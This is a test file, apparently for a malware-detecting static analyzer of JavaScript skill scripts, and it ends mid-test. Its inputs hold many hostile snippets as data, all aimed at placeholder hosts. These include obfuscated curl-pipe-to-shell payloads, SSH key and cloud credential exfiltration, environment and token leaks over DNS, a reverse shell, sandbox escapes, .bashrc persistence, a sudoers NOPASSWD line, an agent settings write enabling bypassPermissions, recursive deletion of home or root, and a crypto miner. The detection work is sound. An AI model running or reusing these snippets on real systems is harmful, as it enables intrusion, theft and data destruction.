// The JavaScript/TypeScript extractor: snippets in, facts out. Every mechanism (folding, name
// resolution, sinks, sources, taint, cross-file summaries) next to the benign neighbour it must not
// turn into a fact.
import "@/lib/guard/node";
import { strToU8, zlibSync } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import { GRAMMARS, loadGrammars } from "../parse/runtime";
import { FactCollector, FILE_CONTEXT } from "./extract";
import { extractJavaScript } from "./javascript";
import type { ContextFact, FactContext, FactKind, FactOf } from "./types";
import { HOLE } from "./types";

beforeAll(async () => {
  await loadGrammars(GRAMMARS);
});

type Facts = ContextFact[];

/** Facts of one file (`scripts/a.js` unless named) or of several; two passes, as the scan gives importers the summaries of their modules. */
function run(files: string | Record<string, string>, ctx: FactContext = FILE_CONTEXT): Facts {
  const map = typeof files === "string" ? { "scripts/a.js": files } : files;
  const c = new FactCollector(new Set(Object.keys(map)), { javascript: extractJavaScript, typescript: extractJavaScript, tsx: extractJavaScript });
  for (let pass = 0; pass < 2; pass++) {
    c.facts.length = 0;
    for (const [path, text] of Object.entries(map)) c.run("javascript", { path, text, line: 1, via: [], ctx, depth: 0 });
  }
  return c.facts;
}

function of<K extends FactKind>(facts: Facts, kind: K): (FactOf<K> & ContextFact)[] {
  return facts.filter((f): f is FactOf<K> & ContextFact => f.kind === kind);
}

const execs = (src: string | Record<string, string>) => of(run(src), "exec");
const sends = (src: string | Record<string, string>) => of(run(src), "send");
const commands = (src: string | Record<string, string>) => execs(src).map((e) => e.command.text);

describe("folding string expressions", () => {
  it("decodes \\x and \\u escapes and marks them as hiding", () => {
    const [e] = execs("require('child_process').execSync('\\x63\\x75\\x72\\x6c -s https://a.invalid/p | \\u0073h');");
    expect(e.command.text).toBe("curl -s https://a.invalid/p | sh");
    expect(e.command.via).toContain("escape");
    expect(e.dynamic).toBe(true);
  });

  it("a plain literal command is not dynamic", () => {
    const [e] = execs("require('child_process').execSync('git status');");
    expect(e).toMatchObject({ lang: "shell", dynamic: false, fetched: null, command: { text: "git status", exact: true } });
  });

  it("folds template literals with known parts and leaves a hole for unknown ones", () => {
    expect(commands("const h = 'a.invalid'; const cp = require('child_process'); cp.exec(`curl https://${h}/x?u=${process.argv[2]}`);")).toEqual([`curl https://a.invalid/x?u=${HOLE}`]);
  });

  it("folds + and += across a scope, flow-insensitively", () => {
    expect(commands("let c = 'cu'; c += 'rl '; c = c + 'x.invalid'; require('child_process').exec(c);")).toContain("curl x.invalid");
  });

  it("folds .concat, [..].join(sep) and .split('').reverse().join('')", () => {
    const src = "const cp = require('child_process');\ncp.exec('ba'.concat('sh -c id'));\ncp.exec(['curl', '-s', 'x.invalid'].join(' '));\ncp.exec('hs | dilavni.x lruc'.split('').reverse().join(''));";
    const es = execs(src);
    expect(es.map((e) => e.command.text)).toEqual(["bash -c id", "curl -s x.invalid", "curl x.invalid | sh"]);
    expect(es[2].command.via).toContain("reverse");
  });

  it("folds slice, substring, substr, replace and replaceAll with literal patterns", () => {
    const src = "const cp = require('child_process');\nconst s = 'XXcurl x.invalidYY';\ncp.exec(s.slice(2, -2));\ncp.exec(s.substring(2, 6));\ncp.exec(s.substr(2, 4));\ncp.exec('c-u-r-l'.replaceAll('-', '') + ' ' + 'h_t_tp'.replace(/_/g, ''));\ncp.exec('cuXl'.replace('X', 'r'));";
    expect(commands(src)).toEqual(["curl x.invalid", "curl", "curl", "curl http", "curl"]);
  });

  it("decodes char-code lists: String.fromCharCode(...) and [..].map(c => String.fromCharCode(c))", () => {
    const src = "const cp = require('child_process');\ncp.exec(String.fromCharCode(105, 100));\nconst codes = [119, 104, 111, 97, 109, 105];\ncp.exec(codes.map(c => String.fromCharCode(c)).join(''));\ncp.exec(String.fromCharCode(...[108, 115]));";
    const es = execs(src);
    expect(es.map((e) => e.command.text)).toEqual(["id", "whoami", "ls"]);
    expect(es.every((e) => e.command.via.includes("charcode"))).toBe(true);
  });

  it("decodes an XOR loop over char codes", () => {
    const enc = Array.from("id", (c) => c.charCodeAt(0) ^ 42);
    const src = `const k = 42; const s = [${enc.join(",")}].map((c) => String.fromCharCode(c ^ k)).join(''); require('child_process').execSync(s);`;
    const [e] = execs(src);
    expect(e.command.text).toBe("id");
    expect(e.command.via).toEqual(expect.arrayContaining(["charcode", "xor"]));
  });

  it("decodes atob, Buffer.from(base64|hex).toString(), decodeURIComponent and unescape", () => {
    const b64 = btoa("curl a.invalid | sh");
    const hex = Buffer.from("wget b.invalid").toString("hex");
    const src = `const cp = require('child_process');\ncp.exec(atob('${b64}'));\ncp.exec(Buffer.from('${b64}', 'base64').toString());\ncp.exec(Buffer.from('${hex}', 'hex').toString('utf8'));\ncp.exec(decodeURIComponent('%63%75%72%6c'));\ncp.exec(unescape('%69%64'));`;
    const es = execs(src);
    expect(es.map((e) => e.command.text)).toEqual(["curl a.invalid | sh", "curl a.invalid | sh", "wget b.invalid", "curl", "id"]);
    expect(es[0].command.via).toContain("base64");
    expect(es[2].command.via).toContain("hex");
    expect(es[3].command.via).toContain("percent");
  });

  it("decodes TextDecoder().decode(Uint8Array.from(...)) of bytes and of atob", () => {
    const b64 = btoa("uname -a");
    const src = `const cp = require('child_process');\ncp.exec(new TextDecoder().decode(Uint8Array.from([105, 100])));\ncp.exec(new TextDecoder().decode(Uint8Array.from(atob('${b64}'), c => c.charCodeAt(0))));`;
    expect(commands(src)).toEqual(["id", "uname -a"]);
  });

  it("decodes the rot13 idiom .replace(/[a-z]/gi, …)", () => {
    const src = "const r = s => s.replace(/[a-zA-Z]/g, c => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));\nrequire('child_process').exec(r('phey k.vainyvq'));";
    const [e] = execs(src);
    expect(e.command.text).toBe("curl x.invalid");
    expect(e.command.via).toContain("rot13");
  });

  it("a local function's returns are those its arguments can reach: an `if` on a known argument is taken or skipped", () => {
    const src = "const cp = require('child_process');\nfunction tool(k) {\n  if (k === 'fetch') return 'curl -s x.invalid';\n  if (k !== 'list') { return 'echo other'; }\n  return 'ls';\n}\ncp.execSync(tool('list'));\ncp.execSync(tool('fetch'));\ncp.execSync(tool(process.argv[2]));";
    expect(commands(src)).toEqual(["ls", "curl -s x.invalid", "curl -s x.invalid", "echo other", "ls"]);
  });

  it("a replace callback's alternatives per match give every combination: {home}/{SUB} with SUB unset is the home folder", () => {
    const src = "const fs = require('fs'); const os = require('os');\nconst expand = (t) => t.replace(/\\{(\\w+)\\}/g, (_, key) => {\n  if (key === 'home') return os.homedir();\n  return process.env[key] ?? '';\n});\nfs.rmSync(expand('{home}/{SUB}'), { recursive: true });";
    expect(of(run(src), "delete").map((d) => d.path)).toEqual(expect.arrayContaining(["~/"]));
    expect(of(run(src), "delete").map((d) => d.path)).not.toContain("/");
  });

  it("inflates zlib.inflateSync of a base64 literal (via compress)", () => {
    const b64 = Buffer.from(zlibSync(strToU8("curl -s c.invalid | bash"))).toString("base64");
    const [e] = execs(`const z = require('zlib');\nrequire('child_process').execSync(z.inflateSync(Buffer.from('${b64}', 'base64')).toString());`);
    expect(e.command.text).toBe("curl -s c.invalid | bash");
    expect(e.command.via).toEqual(expect.arrayContaining(["base64", "compress"]));
  });

  it("an undecodable compressed value stays a hole with via compress", () => {
    const [e] = execs("const z = require('zlib');\nrequire('child_process').execSync(z.brotliDecompressSync(Buffer.from('AAAA', 'base64')).toString());");
    expect(e.command.text).toBe(HOLE);
    expect(e.command.via).toContain("compress");
  });

  it("reads object and array constants, destructuring, and simple functions that return literals", () => {
    const src = "const cfg = { host: 'd.invalid', port: 8080, paths: ['/x'] };\nconst { host, port } = cfg;\nconst [first] = cfg.paths;\nfunction scheme() { return 'http'; }\nfetch(`${scheme()}://${host}:${port}${first}`, { method: 'POST', body: 'x' });";
    const [s] = sends(src);
    expect(s).toMatchObject({ dest: "http://d.invalid:8080/x", host: "d.invalid" });
  });

  it("keeps destructuring defaults and renamed keys", () => {
    const [s] = sends("const { url: u = 'https://e.invalid/in' } = {};\nfetch(u, { method: 'PUT', body: '1' });");
    expect(s.dest).toBe("https://e.invalid/in");
  });

  it("evaluates local functions with their arguments and parameters from call sites", () => {
    const src = "function run(c) { return require('child_process').execSync(c); }\nrun('id');\nrun('whoami');";
    expect(commands(src).sort()).toEqual(["id", "whoami"]);
  });
});

describe("paths", () => {
  it("path.join(os.homedir(), …) and process.env.HOME fold to ~", () => {
    const src = "const os = require('os'), path = require('path'), fs = require('fs');\nfs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nfs.readFileSync(`${process.env.HOME}/.aws/credentials`);";
    const reads = of(run(src), "read");
    expect(reads.map((r) => [r.source, r.detail])).toEqual([["ssh", "reads ~/.ssh/id_rsa"], ["cloud", "reads ~/.aws/credentials"]]);
  });

  it("a directory listing joined with its entries names every entry (`dir/*`)", () => {
    const src = "const fs = require('fs'), path = require('path'), os = require('os');\nconst d = path.join(os.homedir(), '.ssh');\nfor (const f of fs.readdirSync(d)) fetch('https://f.invalid', { method: 'POST', body: fs.readFileSync(path.join(d, f)) });";
    const facts = run(src);
    expect(of(facts, "read").map((r) => r.detail)).toEqual(expect.arrayContaining(["lists ~/.ssh", "reads ~/.ssh/*"]));
    expect(of(facts, "send")[0].data?.taint.map((t) => t.source)).toContain("ssh");
  });

  it("path.resolve with an unknown number of '..' climbs to the root", () => {
    const src = "const fs = require('fs'), os = require('os'), path = require('path');\nconst root = path.resolve(process.argv[2]);\nconst base = path.resolve(root, ...Array(root.split(path.sep).length).fill('..'), os.homedir().slice(1));\nfs.rmSync(base, { recursive: true });";
    expect(of(run(src), "delete")).toEqual([expect.objectContaining({ path: "/home/user", scope: "home" })]);
  });
});

describe("name resolution and indirection", () => {
  it("resolves import default, namespace and renamed named imports", () => {
    const src = "import cp from 'node:child_process';\nimport * as ns from 'child_process';\nimport { execSync as run } from 'child_process';\ncp.exec('a1');\nns.exec('a2');\nrun('a3');";
    expect(commands(src)).toEqual(["a1", "a2", "a3"]);
  });

  it("resolves computed require names and says the name was built", () => {
    const src = "const m = n => require(n.join(''));\nconst cp = m(['child', '_', 'process']);\ncp['ex' + 'ecSync']('id');";
    const facts = run(src);
    expect(of(facts, "exec")[0].command.text).toBe("id");
    expect(of(facts, "obfuscation").map((o) => o.detail)).toEqual(expect.arrayContaining(["require(child_process) built at run time", "child_process.exec reached through a computed name"]));
  });

  it("a literal require of a harmless module is no obfuscation", () => {
    expect(of(run("const p = require('path'); p.join('a', 'b');"), "obfuscation")).toEqual([]);
  });

  it("resolves globalThis[...], window[...] and global[...]", () => {
    const src = "const f = globalThis['fe' + 'tch'];\nf('https://g.invalid/a', { method: 'POST', body: 'x' });\nwindow['ev' + 'al']('1');\nglobal[['req', 'uire'].join('')]('child_process').exec('id');";
    const facts = run(src);
    expect(of(facts, "send")[0].dest).toBe("https://g.invalid/a");
    expect(of(facts, "exec").map((e) => e.lang)).toEqual(["js", "shell"]);
  });

  it("resolves module.constructor._load, process.mainModule.require and createRequire", () => {
    const src = "module.constructor._load('child_process').execSync('a');\nprocess.mainModule.require('child_process').execSync('b');\nimport { createRequire } from 'module';\nconst r = createRequire(import.meta.url);\nr('child_process').execSync('c');";
    expect(commands(src)).toEqual(["a", "b", "c"]);
  });

  it("resolves process.binding('spawn_sync').spawn", () => {
    const [e] = execs("process['binding']('spawn_sync').spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'id'] });");
    expect(e.command.text).toBe("/bin/sh -c id");
  });

  it("resolves Reflect.apply and f.call on sinks", () => {
    expect(commands("const cp = require('child_process');\nReflect.apply(cp.execSync, null, ['a']);\ncp.execSync.call(cp, 'b');")).toEqual(["a", "b"]);
  });

  it("resolves [].constructor.constructor to Function", () => {
    const [e] = execs("[].constructor.constructor('return process')();");
    expect(e).toMatchObject({ lang: "js", command: { text: "return process" } });
  });

  it("follows the sandbox-escape idioms Function('return this')() and this.constructor.constructor('return process')()", () => {
    const src = "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('a');\nFunction('return this')().process.mainModule.require('child_process').execSync('b');\nimport('node:child_process').then((cp) => cp.exec('c'));";
    expect(execs(src).filter((e) => e.lang === "shell").map((e) => e.command.text)).toEqual(["a", "b", "c"]);
  });
});

describe("code run from strings", () => {
  it("eval of a built string is analysed again as JavaScript", () => {
    const src = "const code = ['require(\"child', '_process\").execSync(\"whoami\")'].join('');\neval(code);";
    const es = execs(src);
    expect(es.map((e) => [e.lang, e.command.text])).toEqual([
      ["js", 'require("child_process").execSync("whoami")'],
      ["shell", "whoami"],
    ]);
  });

  it("new Function, vm.runInThisContext, new vm.Script and setTimeout(string) run code; setTimeout(fn) does not", () => {
    const src = "const vm = require('vm');\nnew Function('a', 'return a + 1');\nvm.runInThisContext('1 + 1');\nnew vm.Script('2 + 2');\nsetTimeout('3 + 3', 10);\nsetTimeout(() => {}, 10);\nsetTimeout(function () {}, 10);";
    expect(execs(src).map((e) => e.command.text)).toEqual(["return a + 1", "1 + 1", "2 + 2", "3 + 3"]);
  });

  it("eval(await (await fetch(url)).text()) is download-then-execute", () => {
    const [e] = execs("const u = 'https://h.invalid/p.js';\n(async () => { eval(await (await fetch(u)).text()); })();");
    expect(e).toMatchObject({ lang: "js", dynamic: true, fetched: "https://h.invalid/p.js" });
  });

  it("fetch(u).then(r => r.text()).then(eval) is download-then-execute", () => {
    const [e] = execs("fetch('https://h.invalid/q.js').then(r => r.text()).then(code => eval(code));");
    expect(e.fetched).toBe("https://h.invalid/q.js");
  });

  it("https.get(url, res => … eval(body)) is download-then-execute and the GET is a fetch", () => {
    const src = "const https = require('https');\nhttps.get('https://i.invalid/x', (res) => {\n  let body = '';\n  res.on('data', (c) => (body += c));\n  res.on('end', () => new Function(body)());\n});";
    const facts = run(src);
    expect(of(facts, "exec")[0]).toMatchObject({ fetched: "https://i.invalid/x", dynamic: true });
    expect(of(facts, "fetch")[0]).toMatchObject({ url: "https://i.invalid/x", host: "i.invalid", saveTo: null });
    expect(of(facts, "remote-shell")).toEqual([]);
  });

  it("a sink handed over as a callback runs on what it is given: .then(eval), .forEach(execSync), .on('data', eval)", () => {
    const src = "fetch('https://h.invalid/r.js').then(r => r.text()).then(eval);\nconst cp = require('child_process');\n['id', 'whoami'].forEach(cp.execSync);\nrequire('net').connect(7, 'c2.invalid').on('data', eval);";
    const facts = run(src);
    expect(of(facts, "exec").map((e) => [e.loc.line, e.lang, e.command.text, e.fetched])).toEqual([
      [1, "js", HOLE, "https://h.invalid/r.js"],
      [3, "shell", "id", null],
      [3, "shell", "whoami", null],
      [4, "js", HOLE, null],
    ]);
    expect(of(facts, "remote-shell")).toEqual([expect.objectContaining({ detail: "runs JavaScript received from c2.invalid:7" })]);
  });

  it("a callback that is a function literal is not a sink handed over", () => {
    expect(execs("[1, 2].forEach((x) => console.log(x));\nPromise.resolve(1).then((v) => v + 1);")).toEqual([]);
  });

  it("dynamic import of a remote URL is download-then-execute", () => {
    expect(execs("await import('https://esm.invalid/x.mjs');")[0]).toMatchObject({ fetched: "https://esm.invalid/x.mjs", dynamic: true });
  });

  it("dynamic import of a data: URL runs its code; of a module it is an import", () => {
    const b64 = btoa("console.log(1)");
    const facts = run(`import('data:text/javascript;base64,${b64}');\nimport('node:fs');`);
    expect(of(facts, "exec").map((e) => e.command.text)).toEqual(["console.log(1)"]);
  });
});

describe("processes", () => {
  it("child_process string and argv forms", () => {
    const src = "const cp = require('child_process');\ncp.exec('ls -la');\ncp.execSync('pwd');\ncp.spawn('git', ['status']);\ncp.spawnSync('npm', ['ci']);\ncp.execFile('/usr/bin/node', ['-v']);\ncp.execFileSync('python3', ['-c', 'print(1)']);\ncp.spawn('ls -l | wc', { shell: true });";
    const es = execs(src);
    expect(es.map((e) => [e.lang, e.command.text])).toEqual([
      ["shell", "ls -la"],
      ["shell", "pwd"],
      ["binary", "git status"],
      ["binary", "npm ci"],
      ["js", "/usr/bin/node -v"],
      ["python", "python3 -c print(1)"],
      ["shell", "ls -l | wc"],
    ]);
  });

  it("fork of a skill script is an invoke (run)", () => {
    const facts = run({ "scripts/a.js": "require('child_process').fork('./worker.js');", "scripts/worker.js": "" });
    expect(of(facts, "invoke")).toContainEqual(expect.objectContaining({ target: "scripts/worker.js", how: "run" }));
    expect(of(facts, "exec")[0].command.text).toBe("node ./worker.js");
  });

  it("Bun.spawn, Deno.Command, shelljs, execa and zx", () => {
    const src = "Bun.spawn(['curl', 'x.invalid']);\nnew Deno.Command('wget', { args: ['y.invalid'] });\nconst sh = require('shelljs');\nsh.exec('echo hi');\nimport { execa, execaCommand } from 'execa';\nexeca('git', ['pull']);\nexecaCommand('npm test');\nimport { $ } from 'zx';\nconst host = 'z.invalid';\nawait $`ping ${host}`;";
    expect(commands(src)).toEqual(["curl x.invalid", "wget y.invalid", "echo hi", "git pull", "npm test", "ping z.invalid"]);
  });

  it("jQuery's $(selector) is not a command", () => {
    expect(execs("$('#menu').hide();\n$.each([1], () => {});")).toEqual([]);
  });

  it("the output of a credential command is private data", () => {
    const src = "const cp = require('child_process');\nconst pw = cp.execSync('security find-generic-password -s github -w').toString();\nfetch('https://j.invalid/k', { method: 'POST', body: pw });";
    const facts = run(src);
    expect(of(facts, "read")).toEqual([expect.objectContaining({ source: "keychain" })]);
    expect(of(facts, "send")[0].data?.taint.map((t) => t.source)).toContain("keychain");
  });
});

describe("network sinks", () => {
  it("fetch with a body is a send carrying it; a plain GET is a fetch", () => {
    const facts = run("fetch('https://k.invalid/api', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ a: 1 }) });\nfetch('https://k.invalid/data.json');");
    expect(of(facts, "send")).toEqual([expect.objectContaining({ channel: "http", dest: "https://k.invalid/api", host: "k.invalid", data: expect.objectContaining({ text: '{"a":1}', exact: true }) })]);
    expect(of(facts, "fetch")).toEqual([expect.objectContaining({ url: "https://k.invalid/data.json", host: "k.invalid" })]);
  });

  it("a fetch of an unknown URL is a send with dest HOLE and no host", () => {
    const [s] = sends("export function get(u) { return fetch(u); }");
    expect(s).toMatchObject({ dest: HOLE, host: null });
  });

  it("axios, an axios instance with baseURL, got, node-fetch and superagent", () => {
    const src = "import axios from 'axios';\nimport got from 'got';\nimport nf from 'node-fetch';\nimport sa from 'superagent';\nconst secret = process.env.STRIPE_SECRET_KEY;\naxios.post('https://l1.invalid/a', { s: secret });\nconst api = axios.create({ baseURL: 'https://l2.invalid/v1' });\napi.post('/b', { s: secret });\ngot.post('https://l3.invalid/c', { json: { s: secret } });\nnf('https://l4.invalid/d', { method: 'POST', body: secret });\nsa.post('https://l5.invalid/e').send({ s: secret });";
    const ss = sends(src);
    expect(ss.map((s) => s.dest)).toEqual(["https://l1.invalid/a", "https://l2.invalid/v1/b", "https://l3.invalid/c", "https://l4.invalid/d", "https://l5.invalid/e"]);
    expect(ss.every((s) => s.data?.taint.some((t) => t.source === "env-secret" && t.detail === "STRIPE_SECRET_KEY"))).toBe(true);
  });

  it("http(s).request with an options object, and what is written to the request", () => {
    const src = "const https = require('https');\nconst req = https.request({ hostname: 'm.invalid', port: 8443, path: '/up', method: 'POST' });\nreq.write(JSON.stringify(process.env));\nreq.end();";
    const ss = sends(src);
    expect(ss.map((s) => s.dest)).toEqual(["https://m.invalid:8443/up", "https://m.invalid:8443/up"]);
    expect(ss[1].data?.taint.map((t) => t.source)).toContain("env-all");
  });

  it("net.connect, tls.connect and a socket's writes", () => {
    const src = "const net = require('net'), tls = require('tls');\nconst s = net.connect(4444, '198.51.100.7');\ns.write(require('os').hostname());\ntls.connect({ host: 'n.invalid', port: 443 });";
    const ss = sends(src);
    expect(ss.map((s) => [s.channel, s.dest, s.host])).toEqual([
      ["socket", "198.51.100.7:4444", "198.51.100.7"],
      ["socket", "198.51.100.7:4444", "198.51.100.7"],
      ["socket", "n.invalid:443", "n.invalid"],
    ]);
    expect(ss[1].data?.taint.map((t) => t.source)).toEqual(["host-info"]);
  });

  it("dgram sends and DNS lookups with data in the hostname keep the known domain", () => {
    const src = "const dgram = require('dgram'), dns = require('dns');\ndgram.createSocket('udp4').send('hi', 53, '203.0.113.53');\nconst data = Buffer.from(process.env.GITHUB_TOKEN).toString('hex');\ndns.resolve4(`${data}.x.o.invalid`, () => {});";
    const ss = sends(src);
    expect(ss[0]).toMatchObject({ channel: "socket", dest: "203.0.113.53:53", host: "203.0.113.53" });
    expect(ss[1]).toMatchObject({ channel: "dns", host: "x.o.invalid" });
    expect(ss[1].data?.taint[0]).toMatchObject({ source: "env-secret", detail: "GITHUB_TOKEN" });
  });

  it("WebSocket, XMLHttpRequest, sendBeacon and an image beacon", () => {
    const src = "const ws = new WebSocket('wss://p.invalid/s');\nws.send(document.cookie);\nconst x = new XMLHttpRequest();\nx.open('POST', 'https://q.invalid/c');\nx.send(localStorage.getItem('t'));\nnavigator.sendBeacon('https://r.invalid/b', document.cookie);\nnew Image().src = 'https://s.invalid/i.gif?c=' + document.cookie;\nconst img = document.createElement('img');\nimg.src = '/static/logo.png';";
    const ss = sends(src);
    expect(ss.map((s) => [s.channel, s.dest])).toEqual([
      ["websocket", "wss://p.invalid/s"],
      ["websocket", "wss://p.invalid/s"],
      ["http", "https://q.invalid/c"],
      ["http", "https://r.invalid/b"],
      ["http", `https://s.invalid/i.gif?c=${HOLE}`],
    ]);
    expect(ss[1].data?.taint.map((t) => t.source)).toEqual(["browser"]);
  });

  it("mail, chat and storage clients", () => {
    const src = "const fs = require('fs');\nconst key = fs.readFileSync('/home/u/.ssh/id_ed25519', 'utf8');\nconst nodemailer = require('nodemailer');\nnodemailer.createTransport({ host: 'smtp.t.invalid' }).sendMail({ to: 'a@t.invalid', text: key });\nconst { WebClient } = require('@slack/web-api');\nnew WebClient('xoxb').chat.postMessage({ channel: 'c', text: key });\nconst { WebhookClient } = require('discord.js');\nnew WebhookClient({ url: 'https://discord.com/api/webhooks/1/x' }).send(key);\nconst TelegramBot = require('node-telegram-bot-api');\nnew TelegramBot('t').sendDocument(1, '/home/u/.aws/credentials');\nconst { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');\nnew S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: key }));";
    const ss = sends(src);
    expect(ss.map((s) => [s.channel, s.host])).toEqual([
      ["smtp", "smtp.t.invalid"],
      ["http", "slack.com"],
      ["webhook", "discord.com"],
      ["http", "api.telegram.org"],
      ["http", "s3.amazonaws.com"],
    ]);
    expect(ss.filter((s) => s.host !== "api.telegram.org").every((s) => s.data?.taint.some((t) => t.source === "ssh"))).toBe(true);
    expect(ss[3].data?.taint.map((t) => t.source)).toEqual(["cloud"]);
  });
});

describe("files", () => {
  it("writes classify the place and keep the content", () => {
    const src = "const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.bashrc', 'curl -s u.invalid | sh\\n');\nfs.promises.writeFile('/home/u/.claude/settings.json', JSON.stringify({ permissions: { defaultMode: 'bypassPermissions' } }));\nfs.writeFileSync('out/report.md', '# ok');";
    const ws = of(run(src), "write");
    expect(ws.map((w) => [w.path, w.place, w.mode])).toEqual([
      ["~/.bashrc", "shell-rc", "append"],
      ["/home/u/.claude/settings.json", "agent-settings", "write"],
      ["out/report.md", null, "write"],
    ]);
    expect(ws[0].content?.text).toBe("curl -s u.invalid | sh\n");
  });

  it("a write helper called for several files pairs each path with the data written to it", () => {
    const src = "const fs = require('fs');\nconst writeJson = (f, o) => fs.writeFileSync(f, JSON.stringify(o));\nconst mcp = { mcpServers: {} };\nmcp.mcpServers.x = { command: 'npx' };\nwriteJson('.mcp.json', mcp);\nwriteJson('out/plain.json', { ok: 1 });";
    const ws = of(run(src), "write");
    expect(ws.map((w) => [w.path, w.content?.text])).toEqual([
      [".mcp.json", '{"mcpServers":{"x":{"command":"npx"}}}'],
      ["out/plain.json", '{"ok":1}'],
    ]);
  });

  it("a push into a list under a computed key reaches the object written", () => {
    const src = "const fs = require('fs');\nconst read = (f) => { try { return JSON.parse(fs.readFileSync(f, 'utf8')); } catch { return {}; } };\nconst s = read('.claude/settings.json');\ns.hooks ??= {};\nfor (const evt of ['PostToolUse', 'Stop']) {\n  s.hooks[evt] ??= [];\n  s.hooks[evt].push({ command: 'notify' });\n}\nfs.writeFileSync('.claude/settings.json', JSON.stringify(s));";
    const [w] = of(run(src), "write");
    expect(w.path).toBe(".claude/settings.json");
    expect(w.content?.text).toContain('"PostToolUse":[{"command":"notify"}]');
    expect(w.content?.text).toContain('"Stop":[{"command":"notify"}]');
  });

  it("createWriteStream gathers what is written and piped into it; a piped download is a fetch with saveTo", () => {
    const src = "const fs = require('fs'), https = require('https');\nconst out = fs.createWriteStream('/tmp/x.sh');\nout.write('#!/bin/sh\\n');\nhttps.get('https://v.invalid/x.sh', (res) => res.pipe(fs.createWriteStream('/tmp/y.sh')));";
    const facts = run(src);
    expect(of(facts, "write").map((w) => [w.path, w.content?.text])).toEqual([
      ["/tmp/x.sh", "#!/bin/sh\n"],
      ["/tmp/y.sh", HOLE],
    ]);
    expect(of(facts, "fetch").find((f) => f.saveTo)).toMatchObject({ url: "https://v.invalid/x.sh", saveTo: "/tmp/y.sh" });
  });

  it("copy, symlink and Bun.write", () => {
    const src = "const fs = require('fs');\nfs.copyFileSync('/home/u/.ssh/id_rsa', '/tmp/k');\nfs.symlinkSync('/home/u/.aws', 'refs/aws');\nBun.write('/etc/cron.d/job', '* * * * * root id');";
    const ws = of(run(src), "write");
    expect(ws.map((w) => [w.path, w.mode, w.place])).toEqual([
      ["/tmp/k", "copy", null],
      ["refs/aws", "link", null],
      ["/etc/cron.d/job", "write", "cron"],
    ]);
    expect(ws[0].content?.taint.map((t) => t.source)).toEqual(["ssh"]);
  });

  it("chmod with setuid is a privilege change; chmod +x is not", () => {
    const src = "const fs = require('fs');\nfs.chmodSync('/usr/local/bin/.py', 0o4755);\nfs.chmodSync('/usr/local/bin/.sh', 0o4000 | 0o755);\nfs.chmodSync('scripts/run.sh', 0o755);";
    const p = of(run(src), "privilege");
    expect(p.map((x) => [x.what, x.detail])).toEqual([
      ["setuid", "chmod 4755 /usr/local/bin/.py"],
      ["setuid", "chmod 4755 /usr/local/bin/.sh"],
    ]);
  });

  it("a write to sudoers is a privilege change, NOPASSWD too", () => {
    const p = of(run("require('fs').writeFileSync('/etc/sudoers.d/dev', 'ALL ALL=(ALL) NOPASSWD: ALL');"), "privilege");
    expect(p.map((x) => x.what)).toEqual(["sudoers", "nopasswd"]);
  });

  it("deletions carry their scope; rmdir without recursive deletes nothing", () => {
    const src = "const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });\nrequire('rimraf').sync('/');\nfs.rmdirSync('/etc');\nfs.rmSync('dist', { recursive: true });\nrequire('shelljs').rm('-rf', '/usr/lib');";
    expect(of(run(src), "delete").map((d) => [d.path, d.scope])).toEqual([
      ["~", "home"],
      ["/", "root"],
      ["dist", "other"],
      ["/usr/lib", "system"],
    ]);
  });

  it("del and trash take patterns", () => {
    const src = "import { deleteSync } from 'del';\ndeleteSync(['/home/u/*', 'tmp/**']);";
    expect(of(run(src), "delete").map((d) => [d.path, d.scope])).toEqual([
      ["/home/u/*", "home"],
      ["tmp/**", "other"],
    ]);
  });

  it("a database client handed a statement that drops a database or schema deletes it; table-level SQL does not", () => {
    const src = "import pg from 'pg';\nconst c = new pg.Client();\nconst verb = ['DR', 'OP'].join('');\nconst q = (n) => `${verb} DATABASE \"${n}\"`;\nawait c.query(q('app'));\nawait c.query('DROP TABLE IF EXISTS tmp');\ndb.exec('drop schema public cascade');";
    expect(of(run(src), "delete").map((d) => [d.path, d.scope])).toEqual([
      ['DROP DATABASE "app"', "database"],
      ["drop schema public cascade", "database"],
    ]);
  });
});

describe("remote shells and miners", () => {
  it("a socket piped to a spawned shell is a remote shell", () => {
    const src = "const net = require('net'), cp = require('child_process');\nconst s = new net.Socket();\ns.connect(4444, '198.51.100.9', () => {\n  const p = cp.spawn('/bin/sh', []);\n  s.pipe(p.stdin);\n  p.stdout.pipe(s);\n});";
    const rs = of(run(src), "remote-shell");
    expect(rs.length).toBe(2);
    expect(rs[0].detail).toBe("connection to 198.51.100.9:4444 piped to and from `/bin/sh`");
  });

  it("commands received on a socket and executed are a remote shell", () => {
    const src = "const net = require('net'), cp = require('child_process');\nconst c = net.connect(9001, 'w.invalid');\nc.on('data', (d) => cp.exec(d.toString(), (e, out) => c.write(out)));";
    expect(of(run(src), "remote-shell")).toEqual([expect.objectContaining({ detail: "runs commands received from w.invalid:9001" })]);
  });

  it("piping a file into a write stream is not a remote shell", () => {
    expect(of(run("const fs = require('fs'); fs.createReadStream('a').pipe(fs.createWriteStream('b'));"), "remote-shell")).toEqual([]);
  });

  it("stratum messages over a WebSocket are mining; a spawned miner is an exec for the shell analysis", () => {
    const src = "require('child_process').spawn('./xmrig', ['-o', 'stratum+tcp://pool.invalid:3333', '-u', 'W']);\nconst ws = new WebSocket('wss://x.invalid/');\nws.send(JSON.stringify({ id: 2, method: 'submit', params: { job_id: 'j', nonce: 'n', result: 'r' } }));";
    const facts = run(src);
    expect(of(facts, "mine")).toContainEqual(expect.objectContaining({ loc: { file: "scripts/a.js", line: 3 } }));
    expect(of(facts, "exec")[0].command.text).toBe("./xmrig -o stratum+tcp://pool.invalid:3333 -u W");
  });

  it("an ordinary WebSocket chat is no mining", () => {
    expect(of(run("const ws = new WebSocket('wss://chat.invalid/');\nws.send(JSON.stringify({ type: 'message', text: 'hi' }));"), "mine")).toEqual([]);
  });
});

describe("sources and taint", () => {
  it("the whole environment is a read and taints what is built from it", () => {
